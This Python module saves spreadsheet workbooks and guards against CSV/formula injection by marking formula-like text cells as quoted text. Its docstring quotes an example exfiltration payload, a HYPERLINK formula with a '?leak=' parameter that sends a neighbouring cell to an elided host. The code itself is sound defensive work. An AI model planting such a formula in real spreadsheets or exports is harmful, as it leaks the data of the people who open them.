"""Saving the .xlsx workbooks the product writes, with stored text kept as text.

A spreadsheet takes a cell starting with `=` for a formula, and Excel also takes `+`, `-` and `@`
when such a cell is edited (a tab or a carriage return in front hides any of them). A staff name
such as `=HYPERLINK("http://…?leak="&C2,"…")` would then run in the reader's spreadsheet and send
the neighbouring cells away (CSV/formula injection, OWASP). Every workbook is saved through
`workbook_bytes`, which keeps such text a text cell marked with Excel's quote prefix: it shows
exactly the stored text, stays text when edited, and reads back unchanged (our staff import too).
None of our workbooks writes a formula of its own, so every formula cell found here came from text.

A workbook cannot hold most control characters (openpyxl refuses them, and the whole export would
fail); stored text may still have one (a form feed pasted into a form), so writers put text in cells
through `workbook_text`, which turns them into spaces.
"""

from __future__ import annotations

from io import BytesIO

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def workbook_text(value):
    """`value` as a cell may hold it: text without control characters (each becomes a space); any
    other value unchanged."""
    return ILLEGAL_CHARACTERS_RE.sub(" ", value) if isinstance(value, str) else value


def cell_as_text(cell: Cell) -> None:
    """Keep the text of `cell` as text when a spreadsheet could read it as a formula."""
    value = cell.value
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        cell.data_type = "s"
        cell.quotePrefix = True


def workbook_bytes(workbook: Workbook) -> bytes:
    """The .xlsx file of `workbook`, every text that looks like a formula kept as text."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                cell_as_text(cell)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
